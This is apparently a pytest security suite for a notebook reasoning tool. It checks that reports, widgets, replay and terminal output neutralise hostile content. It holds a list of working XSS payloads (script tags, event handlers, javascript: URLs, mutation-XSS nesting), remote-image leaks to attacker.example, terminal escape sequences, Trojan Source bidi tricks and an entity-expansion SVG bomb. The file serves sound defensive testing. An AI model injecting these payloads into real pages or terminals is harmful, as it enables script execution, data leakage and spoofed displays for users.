"""Hostile output through every view: what the sandbox displays, what the model writes and what a
hand-crafted trace holds must never run as script where people look at it (exported report,
`_repr_html_`, the static copy saved in the notebook, the live widgets and the bundles they hand
to the front end, the replay), nor reach a terminal as escape sequences (the rich console view,
`nbreason replay`, plain text). Legitimate output (tables, PNG and SVG charts) still shows."""

from __future__ import annotations

import base64
import dataclasses
import io
import re
import time
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import ipywidgets as w
import pytest
from rich.console import Console

from nbreason.events import (
    AttemptAnswer, BudgetUpdate, Check, Code, Decision, Error, FinalAnswer, Limits, ModelCall, ModelDelta, Observation,
    Plan, Retry, RunStarted, Signal, Spent, Stopped, TallyEntry, Usage, Vote,
)
from nbreason.execution import ErrorRecord, ExecutionRecord, ResultRecord
from nbreason.export import notebook_from_events, report_html
from nbreason.cell import _settle
from nbreason.result import RunResult
from nbreason.trace import TraceWriter
from nbreason.views import html as static
from nbreason.views.compare import CompareView, compare_report, print_comparison
from nbreason.views.console import ConsoleView
from nbreason.views.replay import ReplayView
from nbreason.views.widgets import RunView

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "tests" / "artifacts"
CHROMIUM = next((p for p in ("/usr/lib/chromium/chromium", "/usr/bin/chromium") if Path(p).exists()), None)

# Each payload's active part sets a marker (MARK becomes `window.__pwned_N=1`): if "pwned" survives
# in an attribute, or the marker is set in a browser, that payload got through.
PAYLOADS = [
    "<script>MARK</script>",
    '<img src=x onerror="MARK;alert(1)">',
    '<svg onload="MARK"><circle r="4"/></svg>',
    '<svg><script>MARK</script></svg>',
    '<a href="javascript:MARK">click</a>',
    '<a href="JaVaScRiPt&colon;MARK">click</a>',
    '<a href=" &#106;avascript:MARK">click</a>',
    '<iframe srcdoc="<script>MARK</script>"></iframe>',
    '<iframe src="data:text/html,<script>MARK</script>"></iframe>',
    '<a href="data:text/html,<script>MARK</script>">data link</a>',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" onerror="MARK">',
    '<object data="data:text/html,<script>MARK</script>"></object>',
    '<embed src="data:text/html,<script>MARK</script>">',
    '<style>body { display: none } /* MARK */</style>',
    '<div style="position:fixed;inset:0;background:white;--x:\'MARK\'">cover</div>',
    '<form action="javascript:MARK"><button formaction="javascript:MARK">go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror="MARK"></style></mglyph></table></mtext></math>',
    '<math href="javascript:MARK"><mi>x</mi></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="MARK">',
    '<noscript><p title="</noscript><img src=x onerror=\'MARK\'>">',
    '<svg><p><style><img src=x onerror="MARK"></style></p></svg>',
    '<details open ontoggle="MARK">x</details>',
    '<meta http-equiv="refresh" content="0;url=javascript:MARK">',
    '<base href="javascript:MARK//">',
    '<link rel="stylesheet" href="https://attacker.example/MARK.css">',
    '<img src="https://attacker.example/MARK.png">',
    '<img srcset="https://attacker.example/MARK.png 1x" src="x">',
    '<input autofocus onfocus="MARK">',
    '<video><source onerror="MARK"></video>',
    '<a href="/api/MARK">a Jupyter server URL</a>',
    '<table><td background="javascript:MARK">cell</td></table>',
    '<img src="x` `<script>MARK</script>"` `>',
    '<!--<img src=x onerror="MARK">-->',
    '<a href="https://example.org/" onclick="MARK">ok link, bad handler</a>',
    'x" onerror="MARK',  # an attribute break-out, e.g. as an image/png value
    '[md link](javascript:MARK) ![md image](https://attacker.example/MARK.png) <img src=x onerror="MARK">',
    '```\n<img src=x onerror="MARK">\n```\n<img src=x onerror="MARK">',  # closes a Markdown code fence
]


def payload(index: int) -> str:
    return PAYLOADS[index].replace("MARK", f"window.__pwned_{index}=1")


FORBIDDEN_TAGS = {"script", "style", "iframe", "frame", "object", "embed", "svg", "math", "form", "input", "button",
                  "textarea", "select", "base", "meta", "link", "template", "noscript", "body", "video", "audio",
                  "source", "applet"}
FORBIDDEN_ATTRIBUTES = {"srcdoc", "srcset", "action", "formaction", "background", "xlink:href", "data", "poster",
                        "ping", "http-equiv"}
SAFE_HREF = re.compile(r"(https?|mailto):", re.I)
SAFE_SRC = re.compile(r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,[A-Za-z0-9+/]*={0,2}")


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in FORBIDDEN_ATTRIBUTES:
                self.problems.append(f"<{tag} {name}={value!r}>")
            elif name == "href" and not SAFE_HREF.match(value):
                self.problems.append(f"<{tag} href={value!r}>")
            elif name == "src" and not SAFE_SRC.fullmatch(value):
                self.problems.append(f"<{tag} src={value[:60]!r}>")
            elif "pwned" in value.lower():
                self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def problems(markup: str) -> list[str]:
    """What in this markup could run, load, hide the page or post somewhere (empty: inert)."""
    inspector = _Inspector()
    inspector.feed(str(markup))
    inspector.close()
    return inspector.problems


# --- hostile runs ------------------------------------------------------------------------------

def hostile_run(text: str) -> list:
    """One run with `text` in every text field a person sees."""
    execution = ExecutionRecord(
        results=(ResultRecord(html=text, text="plain"), ResultRecord(markdown=text), ResultRecord(svg=text),
                 ResultRecord(png=text), ResultRecord(jpeg=text), ResultRecord(latex=text),
                 ResultRecord(javascript=text, text="js"), ResultRecord(json={"k": text}), ResultRecord(text=text)),
        stdout=(text,), stderr=(text,), error=ErrorRecord(text, text, text))
    return [
        RunStarted(question=text, config={"model": text, "sandbox": text, "protocol": text}, step=text),
        ModelCall(step=1, model=text, usage=Usage(10, 5, calls=1), duration=0.1),
        Plan(step=1, text=text),
        Code(step=1, code=text, language=text),
        Observation(step=1, execution=execution, summary=text, ok=False),
        Check(step=1, reward=0.5, signals=[Signal(text, 0.5, text)], answer=text),
        Decision(step=1, action=text, reason=text),
        Retry(number=1, wait=0.5, reason=text),
        Error(step=1, message=text, source=text),
        Error(message=text, source=text),
        Stopped(reason=text),
        FinalAnswer(step=1, answer=text, stop_reason=text, reward=0.5, steps=1, code=[text]),
    ]


def hostile_vote(text: str) -> list:
    """Several attempts and their vote, `text` in every field."""
    return [
        RunStarted(question=text, config={"model": text, "sandbox": text}),
        Plan(step=1, attempt=1, text=text),
        FinalAnswer(attempt=1, answer=text, stop_reason=text, reward=0.5, steps=1),
        Vote(strategy=text, answers=[AttemptAnswer(attempt=text, answer=text, reward=0.5, verified=True, tokens=10,
                                                   stop_reason=text)],
             tally=[TallyEntry(text, 1)], winner=text, winner_attempt=1, why=text, stopped_early=text),
        FinalAnswer(answer=text, stop_reason=text, reward=0.5, steps=1),
    ]


def feed(view, events):
    for event in events:
        view.on_event(event)
    return view


def widget_markup(root: w.Widget) -> tuple[list[str], list[dict]]:
    """Every HTML widget's value and every Output widget's bundle in a widget tree."""
    markup, bundles = [], []

    def walk(node):
        if isinstance(node, w.HTML):
            markup.append(node.value)
        if isinstance(node, w.Output):
            bundles.extend(o["data"] for o in node.outputs if "data" in o)
        for child in getattr(node, "children", ()):
            walk(child)

    walk(root)
    return markup, bundles


def settled_copy(events) -> str:
    """The static copy `%%reason` stores in the notebook after a run."""
    stored = []
    handle = SimpleNamespace(update=lambda bundle, raw=False: stored.append(bundle))
    _settle(feed(RunView(), events), handle, events)
    assert stored, "no static copy was stored"
    return stored[0]["text/html"]


def shown_by_widgets(root: w.Widget) -> list[str]:
    markup, bundles = widget_markup(root)
    return markup + [b["text/html"] for b in bundles if "text/html" in b]


def report_body(events) -> list[str]:
    head, body = report_html(events).split("<body>", 1)
    assert "pwned" not in head and head.count("<style>") == 1  # the page's own head, nothing of the run's
    return [body]


def other_answer(events) -> list:
    """The same run, but its checks judged another answer: compared, they differ at the check."""
    return [dataclasses.replace(e, answer="another") if isinstance(e, Check) else e for e in events]


def comparison_pages(events) -> list[str]:
    label = events[0].question  # a file name can be hostile too
    pages = []
    for left, right in ((events, other_answer(events)), (events, []), ([], events)):
        head, body = compare_report(left, right, labels=(label, "b.jsonl")).split("<body>", 1)
        title = head.split("<title>", 1)[1].split("</title>", 1)[0]
        assert head.count("<style>") == 1 and "<" not in title  # the label in the title is text
        pages.append(body)
    return pages


def exported_notebook(events) -> list[str]:
    """The exported notebook's markdown cells as a renderer that lets raw HTML through shows them
    (nbconvert's HTML export does not sanitise markdown)."""
    from markdown_it import MarkdownIt

    render = MarkdownIt("commonmark", {"html": True}).render
    notebook = notebook_from_events(events)
    return [render(cell.source) for cell in notebook.cells if cell.cell_type == "markdown"]


ROUTES = {
    "export report": report_body,
    "_repr_html_": lambda events: [RunResult(question="q", events=events)._repr_html_()],
    "static copy stored by %%reason": lambda events: [settled_copy(events)],
    "live widgets": lambda events: shown_by_widgets(feed(RunView(), events).root),
    "replay": lambda events: shown_by_widgets(ReplayView(events).show_all().root),
    "comparison report": comparison_pages,
    "comparison widgets": lambda events: shown_by_widgets(
        CompareView(events, other_answer(events), labels=(events[0].question, "b")).show_all().root),
}
INERT_MIME = {"text/html", "image/png", "image/jpeg", "text/latex", "application/json", "text/plain"}


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
@pytest.mark.parametrize("route", sorted(ROUTES))
def test_hostile_text_in_every_field_renders_inert(route, index):
    for events in (hostile_run(payload(index)), hostile_vote(payload(index))):
        for markup in ROUTES[route](events):
            assert problems(markup) == [], markup


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_hostile_text_in_an_exported_notebook_stays_text_where_markdown_is_rendered(index):
    for events in (hostile_run(payload(index)), hostile_vote(payload(index))):
        for markup in exported_notebook(events):
            assert problems(markup) == [], markup


@pytest.mark.parametrize("index", range(len(PAYLOADS)))
def test_bundles_handed_to_the_front_end_are_inert(index):
    # JupyterLab renders an Output widget's bundles as trusted: they must be safe by themselves.
    for view in (feed(RunView(), hostile_run(payload(index))), ReplayView(hostile_run(payload(index))).show_all()):
        _, bundles = widget_markup(view.root)
        assert bundles
        for bundle in bundles:
            assert set(bundle) <= INERT_MIME, bundle.keys()
            assert problems(bundle.get("text/html", "")) == []
            for mime in ("image/png", "image/jpeg"):
                assert mime not in bundle or re.fullmatch(r"[A-Za-z0-9+/]*={0,2}", bundle[mime])
            assert "\\href" not in bundle.get("text/latex", "")


# --- images, SVG, tables, Markdown, JavaScript -------------------------------------------------

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 20).decode()
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + b"\x00" * 20).decode()
CHART_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60">'
             '<rect x="10" y="20" width="20" height="40" fill="#1f77b4"/><text x="60" y="15">West</text></svg>')


def one_result(result: dict) -> list:
    return [RunStarted(question="q", config={}), Observation(step=1, execution=ExecutionRecord((ResultRecord(**result),))),
            FinalAnswer(answer="done", stop_reason="answered")]


def everywhere(events) -> dict[str, list[str]]:
    return {route: ROUTES[route](events) for route in ROUTES}


def test_an_image_value_that_breaks_out_of_its_attribute_is_not_shown():
    for mime in ("png", "jpeg"):
        events = one_result({mime: 'x" onerror="window.__pwned=1', "text": "<Figure>"})
        for route, pages in everywhere(events).items():
            assert all("pwned" not in page and "onerror" not in page for page in pages), route
        (bundle,) = widget_markup(feed(RunView(), events).root)[1]
        assert f"image/{mime}" not in bundle and "not a valid" in bundle["text/plain"]


def test_an_image_whose_bytes_are_not_what_it_claims_is_not_shown():
    events = one_result({"png": base64.b64encode(b"<svg onload=alert(1)>").decode()})
    (bundle,) = widget_markup(feed(RunView(), events).root)[1]
    assert "image/png" not in bundle and "data:image/png" not in static.run_html(events)


def test_real_png_and_jpeg_images_still_show():
    for mime, value in (("png", PNG), ("jpeg", JPEG)):
        events = one_result({mime: value[:20] + "\n" + value[20:], "text": "<Figure>"})  # wrapped base64 is fine
        assert f'<img src="data:image/{mime};base64,{value}"/>' in static.run_html(events)
        (bundle,) = widget_markup(feed(RunView(), events).root)[1]
        assert bundle[f"image/{mime}"] == value


def test_a_plain_svg_chart_shows_as_an_image_of_itself():
    events = one_result({"svg": CHART_SVG, "text": "<Figure>"})
    page = static.run_html(events)
    src = re.search(r'<img src="data:image/svg\+xml;base64,([^"]+)"', page)
    assert src and base64.b64decode(src.group(1)).decode() == CHART_SVG
    assert "<svg" not in page  # never inlined, where its scripts would run
    (bundle,) = widget_markup(feed(RunView(), events).root)[1]
    assert "image/svg+xml" not in bundle and "data:image/svg+xml;base64," in bundle["text/html"]


def test_an_svg_with_script_is_only_ever_an_image():
    hostile = CHART_SVG.replace("<rect", '<script>window.__pwned=1</script><rect').replace(
        "<svg ", '<svg onload="window.__pwned=1" ')
    page = static.run_html(one_result({"svg": hostile}))
    assert "pwned" not in page and "<svg" not in page and "data:image/svg+xml;base64," in page


def test_svg_that_is_not_well_formed_or_declares_entities_is_not_shown():
    bomb = ('<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
            '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>')
    for svg in (bomb, "<svg><rect></svg>", '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', 42):
        events = one_result({"svg": svg, "text": "fallback"})
        assert "data:image/svg+xml" not in static.run_html(events)
        (bundle,) = widget_markup(feed(RunView(), events).root)[1]
        assert "text/html" not in bundle and "not a well-formed SVG" in bundle["text/plain"]


def test_a_matplotlib_svg_with_its_doctype_still_shows():
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(2, 1))
    ax.bar(["West", "East"], [170, 60])
    buffer = io.StringIO()
    fig.savefig(buffer, format="svg")
    plt.close(fig)
    assert "<!DOCTYPE svg" in buffer.getvalue()
    assert "data:image/svg+xml;base64," in static.run_html(one_result({"svg": buffer.getvalue()}))


def test_a_dataframe_table_still_shows_as_a_table():
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"region": ["West", "East"], "amount": [170, 60]})
    events = one_result({"html": frame._repr_html_(), "text": str(frame)})
    for route, pages in everywhere(events).items():
        page = "".join(pages)
        assert "<table" in page and "<th>region</th>" in page and "<td>West</td>" in page and "<td>170</td>" in page, route
        assert "<style" not in page, route  # pandas' scoped style block goes; the page's own styles the table


def test_markdown_from_the_sandbox_is_rendered_text_not_live_html():
    events = one_result({"markdown": '**bold** <img src=x onerror="window.__pwned=1"> [x](javascript:alert(1))'})
    (bundle,) = widget_markup(feed(RunView(), events).root)[1]
    assert "text/markdown" not in bundle  # a front end would render its raw HTML as trusted
    assert "<strong>bold</strong>" in bundle["text/html"] and "&lt;img" in bundle["text/html"]
    assert problems(bundle["text/html"]) == [] and problems(static.run_html(events)) == []


def test_javascript_from_the_sandbox_never_reaches_a_bundle_or_a_page():
    events = one_result({"javascript": "window.__pwned=1", "text": "<IPython.core.display.Javascript object>",
                         "extra": {"application/javascript": "window.__pwned=1"}})
    for route, pages in everywhere(events).items():
        assert all("pwned" not in page for page in pages), route
    (bundle,) = widget_markup(feed(RunView(), events).root)[1]
    assert set(bundle) == {"text/plain"} and "[application/javascript not shown]" in bundle["text/plain"]


def test_latex_that_makes_links_is_dropped_and_plain_latex_kept():
    (bundle,) = widget_markup(feed(RunView(), one_result({"latex": r"$\href{javascript:alert(1)}{x}$",
                                                          "text": "x"})).root)[1]
    assert "text/latex" not in bundle and bundle["text/plain"] == "x"
    for active in (r"$\mmlToken{mi}[href='javascript:alert(1)']{x}$", r"$\mathtip{x}{tip}$", r"$\toggle{a}{b}\endtoggle$"):
        (bundle,) = widget_markup(feed(RunView(), one_result({"latex": active, "text": "x"})).root)[1]
        assert "text/latex" not in bundle, active
    (bundle,) = widget_markup(feed(RunView(), one_result({"latex": r"$\displaystyle x^{2}$", "text": "x**2"})).root)[1]
    assert bundle["text/latex"] == r"$\displaystyle x^{2}$"


def test_model_markdown_keeps_web_links_but_not_script_links_or_remote_images():
    html = static.markdown_html("See [the docs](https://example.org/docs) and [this](javascript:alert(1)).\n\n"
                                "![leak](https://attacker.example/collect?secret=42)")
    assert '<a href="https://example.org/docs"' in html and 'rel="noopener noreferrer"' in html
    assert "href=\"javascript" not in html and "attacker.example" not in html  # a remote image would leak when viewed
    assert problems(html) == []


def test_a_retry_reason_from_the_model_server_is_text_in_the_status_line():
    view = feed(RunView(), [RunStarted(question="q", config={}),
                            Retry(number=1, wait=1.0, reason='429: <img src=x onerror="window.__pwned=1">')])
    assert "&lt;img" in view.status.value and problems(view.status.value) == []


def test_run_level_errors_are_each_escaped_once():
    view = feed(RunView(), [RunStarted(question="q", config={}), Error(message="a <b>"), Error(message="c & d")])
    assert view.errors.value.count("<pre") == 2 and "a &lt;b&gt;" in view.errors.value
    assert "c &amp; d" in view.errors.value and "&amp;lt;" not in view.errors.value


def test_the_replay_position_label_escapes_a_hand_crafted_step():
    replay = ReplayView([RunStarted(question="q", config={}, step='<img src=x onerror="window.__pwned=1">')])
    replay.show_all()
    assert "&lt;img" in replay.label.value and problems(replay.label.value) == []


def test_the_markdown_repr_keeps_the_answer_as_text():
    from markdown_it import MarkdownIt

    result = RunResult(question="q", answer='<img src=x onerror="window.__pwned=1"> [x](javascript:alert(1))',
                       stop_reason="answered")
    html = MarkdownIt("commonmark").render(result._repr_markdown_())
    assert "<img" not in html and "<a " not in html and "onerror" in html  # shown, as text


def test_a_trace_with_text_where_numbers_belong_renders_inert():
    # A hand-crafted trace need not respect the event types.
    bad = '<img src=x onerror="window.__pwned=1">'
    events = [
        RunStarted(question="q", config={"max_steps": bad, "max_total_tokens": bad, "max_seconds": bad}),
        Check(step=1, reward=bad, signals=[Signal("s", bad, "r")]),
        BudgetUpdate(step=1, spent=Spent(steps=bad, tokens=bad, seconds=bad, cost=bad),
                     limits=Limits(steps=bad, tokens=bad, seconds=bad, cost=bad)),
        Vote(strategy="vote", answers=[AttemptAnswer(attempt=bad, answer="a", reward=bad, verified=True,
                                                     tokens=bad, stop_reason="x"), "not a row"],
             tally=[TallyEntry("a", bad), "not an entry"]),
        FinalAnswer(answer="a", stop_reason="answered", reward=bad, steps=bad),
    ]
    for route, pages in (everywhere(events) | {"exported notebook": exported_notebook(events)}).items():
        assert all(problems(page) == [] for page in pages), route
        assert any("&lt;img" in page for page in pages), route  # shown, as text


# --- the exported report in a real browser -------------------------------------------------------

def real_chart() -> tuple[str, str]:
    """A matplotlib bar chart as base64 PNG and as SVG text."""
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(3, 2))
    ax.bar(["West", "East"], [170, 60])
    png, svg = io.BytesIO(), io.StringIO()
    fig.savefig(png, format="png")
    fig.savefig(svg, format="svg")
    plt.close(fig)
    return base64.b64encode(png.getvalue()).decode(), svg.getvalue()


def hostile_trace(path: Path) -> None:
    """A trace file as an attacker would hand it over: every payload in every field, plus real charts."""
    pd = pytest.importorskip("pandas")
    png, svg = real_chart()
    table = pd.DataFrame({"region": ["West", "East"], "amount": [170, 60]})._repr_html_()
    writer = TraceWriter(path)
    events = [RunStarted(question="Which region?", config={"model": "scripted", "sandbox": "local"})]
    for index in range(len(PAYLOADS)):
        for event in hostile_run(payload(index))[1:-1]:
            event.step = index + 1
            events.append(event)
    events.append(Observation(step=len(PAYLOADS) + 1, execution=ExecutionRecord(
        results=(ResultRecord(html=table, text="table"), ResultRecord(png=png, text="<Figure>"),
                 ResultRecord(svg=svg, text="<Figure>")), stdout=("shown\n",))))
    events.append(FinalAnswer(step=len(PAYLOADS) + 1, answer=payload(1), stop_reason="answered"))
    for event in events:
        writer(event)
    writer.close()


DOM_PROBLEMS = """() => {
  const found = [];
  document.querySelectorAll('body *').forEach(el => {
    const tag = el.tagName.toLowerCase();
    if (['script', 'style', 'iframe', 'object', 'embed', 'svg', 'math', 'form', 'base', 'link', 'meta'].includes(tag))
      found.push('<' + tag + '>');
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on') || attr.name === 'srcdoc' || attr.name === 'srcset') found.push(tag + ' ' + attr.name);
      if (attr.name === 'href' && !/^(https?|mailto):/i.test(attr.value)) found.push(tag + ' href=' + attr.value);
      if (attr.name === 'src' && !/^data:image\\/(png|jpeg|gif|webp|svg\\+xml);base64,/.test(attr.value))
        found.push(tag + ' src=' + attr.value.slice(0, 40));
    }
  });
  return found;
}"""
FIRED = "() => Object.keys(window).filter(k => k.startsWith('__pwned'))"
SHOWN_IMAGES = """() => Array.from(document.images).filter(img => img.complete && img.naturalWidth > 0)
  .map(img => img.src.slice(0, 22))"""


@pytest.mark.browser
@pytest.mark.timeout(180)
def test_the_exported_report_runs_nothing_in_chromium(tmp_path):
    playwright = pytest.importorskip("playwright.sync_api")
    if CHROMIUM is None:
        pytest.skip("Debian chromium is not installed")
    from nbreason.cli import main

    hostile_trace(tmp_path / "hostile.jsonl")
    assert main(["export", str(tmp_path / "hostile.jsonl"), "-o", str(tmp_path / "report.html")]) == 0
    report = (tmp_path / "report.html").read_text()
    # Also without the page's Content-Security-Policy: the sanitising alone must hold.
    bare = tmp_path / "report-without-csp.html"
    bare.write_text(re.sub(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", report))
    assert "Content-Security-Policy" not in bare.read_text()
    ARTIFACTS.mkdir(exist_ok=True)
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True,
                                    args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
        try:
            for name in ("report.html", bare.name):
                page = browser.new_page(viewport={"width": 1100, "height": 1400})
                dialogs = []
                page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
                page.goto((tmp_path / name).as_uri())
                page.wait_for_load_state("load")
                time.sleep(1.5)  # failing images, onload and ontoggle handlers
                page.screenshot(path=str(ARTIFACTS / f"attack-{name.replace('.html', '.png')}"), full_page=False)
                assert page.evaluate(FIRED) == [] and dialogs == [], name
                assert page.evaluate(DOM_PROBLEMS) == [], name
                # What a person should still see: the table, the PNG chart and the SVG chart.
                assert page.locator(".nbreason-html table", has_text="West").count() == 1
                shown = page.evaluate(SHOWN_IMAGES)
                assert any(s.startswith("data:image/png") for s in shown), shown
                assert any(s.startswith("data:image/svg+xml") for s in shown), shown
                if name == "report.html":
                    page.locator(".nbreason-step").last.screenshot(path=str(ARTIFACTS / "attack-report-charts.png"))
                page.close()
        finally:
            browser.close()


# --- terminals -----------------------------------------------------------------------------------

SEQUENCES = {
    "clear screen": "\x1b[2J",
    "window title": "\x1b]0;PWNED-TITLE\x07",
    "OSC 8 hyperlink": "\x1b]8;;https://attacker.example/\x1b\\innocent\x1b]8;;\x1b\\",
    "carriage return overwrite": "\rOVERWRITTEN",
    "bell": "\x07",
    "C1 CSI": "\x9b2J",
    "C1 OSC": "\x9d0;PWNED\x9c",
    "backspace": "ab\x08\x08",
    "bidi override": "\u202eevil\u202c",
}
HOSTILE = "start " + " ".join(SEQUENCES.values()) + " end"
INJECTED = ["\x1b[2J", "\x1b]0;", "\x1b]8;;https://attacker", "\rOVERWRITTEN", "\x07", "\x9b", "\x9d", "\x9c", "\x08",
            "\u202e", "\u202c"]


def console_output(events, **kw) -> str:
    buffer = io.StringIO()
    view = ConsoleView(Console(file=buffer, force_terminal=True, width=400, color_system="standard"), **kw)
    for event in events:
        view(event)
    return buffer.getvalue()


def terminal_run(text: str) -> list:
    run = hostile_run(text)
    run[0].step = 0
    deltas = [ModelDelta(step=1, text=text), ModelDelta(step=1, text=text)]
    return run[:1] + deltas + run[1:-1] + [
        BudgetUpdate(step=1, spent=Spent(steps=text, tokens=1, seconds=1.0, cost=None),
                     limits=Limits(steps=text, tokens=None, seconds=None)),
        Plan(step=1, text=f"# {text}\n\n[link]({text}) `{text}`\n\n```python\n{text}\n```"),
        Code(step=text, code=text),
        *hostile_vote(text)[2:4], FinalAnswer(attempt=2, answer=text, stop_reason=text, reward=0.1), run[-1],
    ]


def test_terminal_escape_sequences_never_reach_the_terminal():
    out = console_output(terminal_run(HOSTILE))
    for sequence in INJECTED:
        assert sequence not in out, repr(sequence)
    assert "\\x1b[2J" in out and "\\x9b2J" in out and "\\r" in out  # visible, not acted on
    assert "\x1b[1m" in out and "\x1b[3" in out  # rich's own styling still works


def test_rich_markup_and_links_in_model_text_stay_text():
    text = "[link=https://attacker.example/]innocent[/link] [bold red]loud[/]"
    out = console_output([RunStarted(question=text, config={"model": text}), Plan(step=1, text="[x](https://a.example/)"),
                          FinalAnswer(answer=text, stop_reason=text),
                          Vote(strategy=text, answers=[AttemptAnswer(attempt=1, answer=text, reward=1.0, tokens=1,
                                                                     stop_reason=text)])])
    assert "\x1b]8;" not in out  # no terminal hyperlink at all
    assert "[link=https://attacker.example/]" in out and "https://a.example/" in out


def test_quiet_console_and_plain_text_also_escape_control_characters():
    out = console_output(terminal_run(HOSTILE), quiet=True)
    assert all(sequence not in out for sequence in INJECTED)
    text = static.run_text(terminal_run(HOSTILE))
    assert all(sequence not in text for sequence in INJECTED)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


def test_the_terminal_comparison_escapes_control_characters_too():
    buffer = io.StringIO()
    run = terminal_run(HOSTILE)
    print_comparison(run, other_answer(run), labels=(HOSTILE, "b"),
                     console=Console(file=buffer, force_terminal=True, width=400, color_system="standard"))
    out = buffer.getvalue()
    assert all(sequence not in out for sequence in INJECTED)
    assert "\\x1b[2J" in out and "first divergence" in out


def test_newlines_and_tabs_are_kept_for_the_terminal():
    from nbreason.views.safe import terminal_text

    assert terminal_text("a\tb\nc\r\nd\re") == "a\tb\nc\nd\\re"  # Windows line ends are line ends
    out = console_output([Observation(step=1, summary="first\r\nsecond\nthird", ok=True)])
    lines = [line for line in out.splitlines() if "first" in line or "second" in line or "third" in line]
    assert len(lines) == 3 and "\\r" not in out
    text = static.event_text(Observation(step=1, execution=ExecutionRecord(stdout=("a\tb\nc\r\nd\n",))))
    assert text.endswith("a\tb\nc\nd")


HIDDEN_TEXT = ["\u202e", "\u2066", "\u061c", "\u200b", "\ufeff", "\u00ad", "\U000e0041", "\u2028"]


def test_every_format_character_and_blank_filler_is_spelled_out_in_the_terminal_and_in_code():
    import unicodedata

    from nbreason.views.safe import shown_code, terminal_text

    hidden = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")]
    hidden += ["\u3164", "\u115f", "\u1160", "\uffa0", "\u034f", "\ufe0f", "\U000e0100"]  # blank or selectors
    for char in hidden:
        assert char not in terminal_text(f"answer{char}42"), repr(char)
        assert char not in shown_code(f"x{char} = 1"), repr(char)
    assert terminal_text("x\u202ey") == "x\\u202ey" and shown_code("\u3164 = 5") == "\\u3164 = 5"


def test_code_shown_for_review_spells_out_characters_that_make_it_read_otherwise():
    # "Trojan Source": an override makes `if access != "user‮ ⁦// admin⁩ ⁦"` read as something else
    code = 'if access_level != "user\u202e \u2066// Check if admin\u2069 \u2066":\n    grant()'
    events = [RunStarted(question="q"), Code(step=1, code=code)]
    pages = {"static": static.run_html(events), "widgets": "".join(shown_by_widgets(feed(RunView(), events).root)),
             "replay": "".join(shown_by_widgets(ReplayView(events).show_all().root)), "report": report_body(events)[0]}
    for route, page in pages.items():
        assert not any(char in page for char in HIDDEN_TEXT), route
        assert "\\u202e" in page and "\\u2066" in page, route


def test_a_trace_file_holds_no_raw_control_or_hidden_characters_and_reads_back_the_same(tmp_path):
    from nbreason.trace import read_trace

    hostile = "out\x9b2J\x9d0;title\x07 \u202e\u2066 \u2028 \x1b[31m \U000e0041 café 日本 end"
    path = tmp_path / "run.jsonl"
    writer = TraceWriter(path)
    writer(RunStarted(question="q"))
    writer(Observation(step=1, summary=hostile, ok=True))
    writer.close()
    raw = path.read_text(encoding="utf-8")
    assert not re.search(f"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\u2066\u2028\U000e0041]", raw)
    assert "café 日本" in raw  # ordinary text stays readable
    assert [e.summary for e in read_trace(path) if isinstance(e, Observation)] == [hostile]
